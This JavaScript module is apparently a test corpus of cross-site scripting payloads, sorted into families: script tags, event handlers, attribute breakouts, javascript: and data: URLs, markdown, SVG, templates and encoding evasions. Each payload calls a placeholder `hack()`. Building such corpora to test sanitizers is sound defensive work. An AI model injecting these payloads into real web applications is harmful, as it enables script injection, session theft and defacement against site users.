// Texts that would run `hack()` if a page took any of them for more than text, by family.
const RUN = 'hack()';

const tags = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`, `<script>/*<!--*/${RUN}//--></script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`, `<![CDATA[<script>${RUN}</script>]]>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`, `<base href="javascript:${RUN}//">`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="javascript:${RUN}">`, `<link rel=import href="data:text/html,<script>${RUN}</script>">`, `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url(javascript:${RUN})}</style>`, `<plaintext><script>${RUN}</script>`, `<xmp><script>${RUN}</script></xmp>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<frameset onload=${RUN}>`,
];

const events = [
  ['img src=x', 'error'], ['img/src=x', 'error'], ['svg', 'load'], ['body', 'load'], ['video src=x', 'error'], ['audio src=x', 'error'], ['input autofocus', 'focus'],
  ['select autofocus', 'focus'], ['textarea autofocus', 'focus'], ['details open', 'toggle'], ['marquee', 'start'], ['div style=animation:x', 'animationstart'],
  ['a href=# autofocus', 'focusin'], ['button autofocus', 'focus'], ['iframe', 'load'], ['object data=x', 'error'], ['link rel=stylesheet href=x', 'error'],
  ['source src=x', 'error'], ['video poster=x', 'loadstart'], ['dialog open', 'close'], ['form', 'formdata'], ['p', 'mouseover'], ['p', 'pointerenter'], ['p', 'scroll'],
  ['div contenteditable', 'blur'], ['track default src=x', 'error'], ['image src=x', 'error'], ['isindex type=image src=1', 'error'], ['p tabindex=0', 'focus'], ['x', 'click'],
];
const handlers = events.flatMap(([tag, event], n) => [
  `<${tag} on${event}=${RUN}>`,
  n % 2 === 0 ? `"'><${tag} ON${event.toUpperCase()}="${RUN}" x="` : `<${tag.replaceAll(' ', '/')}/on${event}\n=\n'${RUN}'//`,
]);

const attributes = [
  `" onmouseover="${RUN}`, `' onfocus='${RUN}' autofocus='`, '` onclick=`hack()`', `" style="background:url(javascript:${RUN})`, `" autofocus onfocus=${RUN} x="`, `x" srcdoc="<script>parent.${RUN}</script>`,
  `javascript:${RUN}//" class="`, `" href="javascript:${RUN}`, `" formaction="javascript:${RUN}`, `"><img src=x onerror=${RUN}><"`,
];

const urls = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript\u200b:${RUN}`, `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`, `javascript&#x3a;${RUN}`, `&#106;avascript:${RUN}`, `javascript%3A${RUN}`, `javascript://a.test/%0a${RUN}`, `javascript:void(${RUN})`, `vbscript:${RUN}`, `livescript:${RUN}`,
  `data:text/html,<script>opener.${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFjaygpPC9zY3JpcHQ+`, `data:image/svg+xml,<svg onload=${RUN}>`, `blob:null/${RUN}`, `filesystem:${RUN}`, `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`, `https://a.test/"onmouseover=${RUN}//`, `https://a.test/'><img src=x onerror=${RUN}>`, `https://a.test/\`onclick=${RUN}`, `https://javascript:${RUN}@a.test/`, `mailto:a@b.test?body=<script>${RUN}</script>`,
  `mailto:"><img src=x onerror=${RUN}>@b.test`, `//a.test/<script>${RUN}</script>`,
];

const markdown = [
  ...urls.slice(0, 18).map((url) => `[click](${url})`), ...urls.slice(0, 6).map((url) => `<${url}>`), ...urls.slice(0, 6).map((url) => `![x](${url})`), ...urls.slice(0, 4).map((url) => `[click][a]\n\n[a]: ${url}`),
  `[x](https://a.test "onmouseover=${RUN}")`, `[x](https://a.test '"><img src=x onerror=${RUN}>')`, `[<img src=x onerror=${RUN}>](https://a.test)`, `[![x](javascript:${RUN})](javascript:${RUN})`, `[x](<javascript:${RUN}>)`, `[x](\\javascript:${RUN})`,
  `\`<script>${RUN}</script>\``, `\`\`\`html"><script>${RUN}</script>\n<script>${RUN}</script>\n\`\`\``, `\`\`\`x" onmouseover="${RUN}\ncode\n\`\`\``, `> <script>${RUN}</script>`, `- <img src=x onerror=${RUN}>`, `1. <svg onload=${RUN}>`, `**<b onclick=${RUN}>b</b>**`, `~~<s/onclick=${RUN}>~~`,
  `<https://a.test/" onclick="${RUN}>`, `[a](javascript:${RUN}) <b>[b](https://a.test)</b>`,
];

const svg = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><foreignObject><iframe onload=${RUN}></iframe></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`, `<svg><style><img src=x onerror=${RUN}></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<svg><image href=x onerror=${RUN}>`,
];

const templates = [
  `<template><script>${RUN}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `{{${RUN}}}`, `[[${RUN}]]`, `<x-x is=script>${RUN}</x-x>`, `__proto__`,
];

const encodings = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;img src=x onerror=${RUN}&#62;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`, `%3Cscript%3E${RUN}%3C/script%3E`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`, `<\u0000script>${RUN}</script>`.replace('\u0000', '\ufffd'), `<img src=x\u00a0onerror=${RUN}>`, `\u202e<script>${RUN}</script>`, `\ufeff<script>${RUN}</script>`, `<ſcript>${RUN}</ſcript>`,
];

export const FAMILIES = { tags, handlers, attributes, urls, markdown, svg, templates, encodings };
export const PAYLOADS = [...new Set(Object.values(FAMILIES).flat())];
